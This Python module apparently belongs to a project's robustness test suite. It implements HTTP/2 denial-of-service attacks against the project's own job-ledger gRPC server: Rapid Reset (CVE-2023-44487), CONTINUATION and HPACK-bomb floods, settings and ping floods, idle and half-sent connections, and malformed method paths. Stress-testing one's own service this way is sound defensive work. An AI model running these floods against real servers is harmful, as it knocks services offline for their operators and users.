"""Attacks with the frames of HTTP/2. None needs a token, or a job."""

import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress

from google.protobuf.duration_pb2 import Duration

from jobledger.v1 import worker_service_pb2 as workers
from tests.robustness.abuse.attacker import begin, parent_waits, wait_for_parent
from tests.support.http2 import (
    ACK,
    CANCEL,
    CLAIM_JOBS,
    CONTINUATION,
    CREATE_JOB,
    DATA,
    END_HEADERS,
    END_STREAM,
    GET_JOB,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    RST_STREAM,
    SETTINGS,
    Connection,
    connect,
    frame,
    indexed,
    is_open,
    literal,
    message,
    request_headers,
    setting,
)

MAX_FRAME = 16_384
CHUNK = 64

MALFORMED_PATHS = (b"/\xff", b"/jobledger.v1.JobService/\xff", b"\xff", b"/\xc3\x28/GetJob", b"")


def rapid_reset(target: str, *, connections: int = 1, rate: int = 50_000) -> Mapping[str, object]:
    """Begin calls and cancel each at once (CVE-2023-44487)."""
    headers = request_headers(GET_JOB)

    def chunks() -> Iterator[bytes]:
        for first in range(1, 2**31, 2 * CHUNK):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)
                for stream in range(first, first + 2 * CHUNK, 2)
            )

    return _flood(target, chunks, connections, rate / CHUNK)


def cancelled_claims(
    target: str, *, connections: int = 1, rate: int = 20_000
) -> Mapping[str, object]:
    """Begin claims that would wait, and cancel each when the next ones are begun."""
    claim = workers.ClaimJobsRequest(worker_id="eve", job_types=["none"], wait=Duration(seconds=9))
    headers, body = request_headers(CLAIM_JOBS), message(claim.SerializeToString())

    def chunks() -> Iterator[bytes]:
        begun: list[int] = []
        for first in range(1, 2**31, 2 * CHUNK):
            cancelled, begun = begun, [*range(first, first + 2 * CHUNK, 2)]
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
                for stream in begun
            ) + b"".join(frame(RST_STREAM, 0, stream, CANCEL) for stream in cancelled)

    return _flood(target, chunks, connections, rate / CHUNK)


def open_calls(target: str, *, connections: int = 1, rate: int = 50_000) -> Mapping[str, object]:
    """Begin calls and never go on with them, whatever the server allows."""
    headers = request_headers(GET_JOB)

    def chunks() -> Iterator[bytes]:
        for first in range(1, 2**31, 2 * CHUNK):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, headers)
                for stream in range(first, first + 2 * CHUNK, 2)
            )

    return _flood(target, chunks, connections, rate / CHUNK)


def hpack_bomb(
    target: str, *, connections: int = 1, repeats: int = 3, rate: int = 20_000
) -> Mapping[str, object]:
    """Have the server keep a header of 4 kB, and name it again and again by one byte."""
    first = request_headers(GET_JOB, literal(b"x", b"a" * 4000, keep=True))
    again = request_headers(GET_JOB, indexed(62) * repeats)

    def chunks() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, first)
        for begun in range(3, 2**31, 2 * CHUNK):
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, again)
                for stream in range(begun, begun + 2 * CHUNK, 2)
            )

    return _flood(target, chunks, connections, rate / CHUNK)


def large_headers(
    target: str, *, connections: int = 1, size: int = 60_000, rate: int = 5_000
) -> Mapping[str, object]:
    """Send headers of 60 kB with each call."""
    block = request_headers(GET_JOB, literal(b"x", b"a" * size))
    parts = [block[at : at + MAX_FRAME] for at in range(0, len(block), MAX_FRAME)]

    def chunks() -> Iterator[bytes]:
        for stream in range(1, 2**31, 2):
            yield frame(HEADERS, 0, stream, parts[0]) + b"".join(
                frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part)
                for part in parts[1:]
            )

    return _flood(target, chunks, connections, rate)


def cut_calls(
    target: str, *, connections: int = 20, calls: int = 100, period: float = 0.4
) -> Mapping[str, object]:
    """Make whole calls without a token over new connections, and cut all of them, each period."""
    headers, body = request_headers(GET_JOB), message(b"")
    batch = b"".join(
        frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, body)
        for stream in range(1, 2 * calls, 2)
    )
    begin()
    rounds = 0
    while parent_waits():
        opened = [Connection(target, read=False) for _ in range(connections)]
        for connection in opened:
            with suppress(OSError):
                connection.send(frame(SETTINGS, ACK, 0), batch)
        time.sleep(period)
        for connection in opened:
            connection.close()
        rounds += 1
    return {"sent": rounds * connections * calls}


def settings_flood(
    target: str, *, connections: int = 1, rate: int = 200_000
) -> Mapping[str, object]:
    """Change the settings all the time: each change has to be acknowledged."""
    return _repeat(target, frame(SETTINGS, 0, 0, setting(4, 65_535)), connections, rate)


def ping_flood(target: str, *, connections: int = 1, rate: int = 200_000) -> Mapping[str, object]:
    return _repeat(target, frame(PING, 0, 0, bytes(8)), connections, rate)


def reconnects(target: str, *, rate: int = 1_000) -> Mapping[str, object]:
    """Connect, send what is not HTTP/2, and connect again when the server has hung up."""
    begin()
    since = time.monotonic()
    sent = 0
    while parent_waits():
        with connect(target) as connected, suppress(OSError):
            connected.sendall(b"GET / HTTP/1.1\r\n\r\n")
            while connected.recv(2**16):
                pass
        sent += 1
        if (early := sent / rate - (time.monotonic() - since)) > 0:
            time.sleep(early)
    return {"sent": round(sent / (time.monotonic() - since))}


def continuation_flood(
    target: str, *, connections: int = 1, size: int = 0, rate: int = 50_000
) -> Mapping[str, object]:
    """Begin headers that never end (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, literal(b"x", b"a" * size) if size else b"")

    def chunks() -> Iterator[bytes]:
        yield frame(HEADERS, 0, 1, request_headers(GET_JOB))
        while True:
            yield more * CHUNK

    return _flood(target, chunks, connections, rate / CHUNK)


def half_sent(target: str, *, connections: int = 5, streams: int = 100) -> Mapping[str, object]:
    """Send half of a message of almost 1 MiB on each stream, as far as flow control allows."""
    size = 1_000_000
    headers = request_headers(CREATE_JOB)
    opened = [Connection(target) for _ in range(connections)]
    for connection in opened:
        for stream in range(1, 2 * streams, 2):
            head = b"\0" + size.to_bytes(4, "big")
            connection.send(
                frame(HEADERS, END_HEADERS, stream, headers), frame(DATA, 0, stream, head)
            )
    begin()
    sent = 0
    part = bytes(8_000)
    while parent_waits() and sent < connections * streams * size // 2:
        for connection in opened:
            if connection.window < len(part) * streams:
                continue
            for stream in range(1, 2 * streams, 2):
                connection.send(frame(DATA, 0, stream, part))
                connection.window -= len(part)
                sent += len(part)
        time.sleep(0.001)
    wait_for_parent()
    return {"sent": sent, "closed": sum(c.closed.is_set() for c in opened)}


def unread_answers(
    target: str, *, job_id: str, user_id: str, connections: int, calls: int
) -> Mapping[str, object]:
    """Ask for the same job on each stream, and take nothing of the answers."""
    body = field(1, job_id) + field(2, user_id)
    closed = setting(INITIAL_WINDOW_SIZE, 0)
    opened = [Connection(target, closed) for _ in range(connections)]
    headers = request_headers(GET_JOB)
    for connection in opened:
        for stream in range(1, 2 * calls, 2):
            connection.send(
                frame(HEADERS, END_HEADERS, stream, headers),
                frame(DATA, END_STREAM, stream, message(body)),
            )
    begin()
    wait_for_parent()
    return {"calls": connections * calls}


def field(number: int, text: str) -> bytes:
    """Encode a short string field of a message."""
    return bytes([number << 3 | 2, len(text)]) + text.encode()


def silent(target: str, *, connections: int) -> Mapping[str, object]:
    """Connect and say nothing. What the server closes is not opened again."""
    sockets = [connect(target) for _ in range(connections)]
    begin()
    wait_for_parent()
    return {"connections": connections, "open": sum(is_open(s) for s in sockets)}


def idle(target: str, *, connections: int) -> Mapping[str, object]:
    """Connect, greet, and make no call."""
    opened = [Connection(target, read=False) for _ in range(connections)]
    for connection in opened:
        connection.send(frame(SETTINGS, ACK, 0))
    begin()
    wait_for_parent()
    return {"connections": connections, "open": sum(is_open(c.socket) for c in opened)}


def _repeat(target: str, what: bytes, connections: int, rate: int) -> Mapping[str, object]:
    def chunks() -> Iterator[bytes]:
        while True:
            yield what * CHUNK

    return _flood(target, chunks, connections, rate / CHUNK)


def _flood(
    target: str, chunks: Callable[[], Iterator[bytes]], connections: int, rate: float
) -> Mapping[str, object]:
    """Send chunks over connections in turn, with a maximum rate, until the test has enough.

    A connection that the server closes is opened again.
    """
    opened = [(Connection(target), chunks()) for _ in range(connections)]
    begin()
    since = time.monotonic()
    sent = closed = 0
    while parent_waits():
        for number, (connection, more) in enumerate(opened):
            try:
                connection.send(next(more))
                sent += 1
            except OSError:
                closed += 1
                connection.close()
                opened[number] = Connection(target), chunks()
        if (early := sent / rate - (time.monotonic() - since)) > 0:
            time.sleep(early)
    seconds = time.monotonic() - since
    return {"sent": round(sent / seconds), "closed": closed}


def malformed_paths(target: str) -> Mapping[str, object]:
    """Call methods whose names are not UTF-8, or empty."""
    for path in MALFORMED_PATHS:
        connection = Connection(target)
        headers = request_headers(path)
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, headers))
        connection.closed.wait(0.2)
    begin()
    return {"sent": len(MALFORMED_PATHS)}
